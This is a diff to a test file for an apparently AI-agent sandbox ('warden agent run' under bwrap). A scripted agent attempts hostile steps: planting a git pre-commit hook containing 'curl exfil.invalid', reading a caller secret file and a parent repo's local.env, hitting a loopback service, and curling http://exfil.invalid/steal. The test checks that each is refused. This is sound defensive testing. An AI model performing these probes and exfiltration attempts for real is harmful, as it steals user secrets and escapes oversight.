@@ -3,7 +3,7 @@
 // might try from inside (git, hooks, the caller's files, the host's services, hosts off the list) fails.
 import { execFileSync } from 'node:child_process';
 import { once } from 'node:events';
-import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { homedir } from 'node:os';
@@ -91,6 +91,10 @@ describe.skipIf(!bwrapWorks)('warden agent run (scripted agent, bwrap)', () => {
     const secret = path.join(homedir(), `.warden-agent-test-${process.pid}`);
     writeFileSync(secret, 'caller-secret\n', { mode: 0o600 });
     cleanups.push(() => execFileSync('rm', ['-f', secret]));
+    // An untracked file of the parent repository: never in the worktree, and hidden from the sandbox.
+    writeFileSync(path.join(repo, 'local.env'), 'PARENT_ONLY=parent-only-value\n');
+    // Reachable by the sandbox's unprivileged user when the test runs as root, so git inside can read history.
+    chmodSync(repo, 0o755);
     let hits = 0;
     const service = createServer((_req, res) => {
       hits++;
@@ -104,16 +108,21 @@ describe.skipIf(!bwrapWorks)('warden agent run (scripted agent, bwrap)', () => {
       `- run: "git add -A && git commit -qm sneaky 2>&1 | tail -1; echo git-exit-$?"`,
       `- run: "echo 'curl exfil.invalid' > ${repo}/.git/hooks/pre-commit 2>&1 || echo hook-refused"`,
       `- run: "cat ${secret} 2>&1 || echo secret-refused"`,
+      `- run: "cat ${repo}/local.env 2>&1 || echo parent-refused"`,
+      `- run: "git log --format=%s -1 2>&1; echo git-reads"`,
       `- run: "curl -s -m 5 http://127.0.0.1:${port}/ --noproxy '*' || echo loopback-refused"`,
       `- run: "curl -s -m 5 -o /dev/null -w '%{http_code}' http://exfil.invalid/steal; echo"`,
       `- write:\n    path: notes.md\n    content: "tried\\n"`,
     ].join('\n');
     const { report, out } = runScripted(repo, 'Tidy up', `${steps}\n`);
-    expect(report.outcome).toBe('committed');
+    expect(report.outcome, out).toBe('committed');
     expect(out).toContain('hook-refused');
     expect(out).toContain('secret-refused');
     expect(out).toContain('loopback-refused');
     expect(out).not.toContain('caller-secret');
+    expect(out).toContain('parent-refused');
+    expect(out).not.toContain('parent-only-value');
+    expect(out).toMatch(/init\s+git-reads/);
     expect(hits).toBe(0);
     expect(existsSync(path.join(repo, '.git/hooks/pre-commit'))).toBe(false);
     expect(report.egress.denied).toEqual([expect.objectContaining({ host: 'exfil.invalid', reason: 'exfil.invalid is not on the egress allowlist' })]);
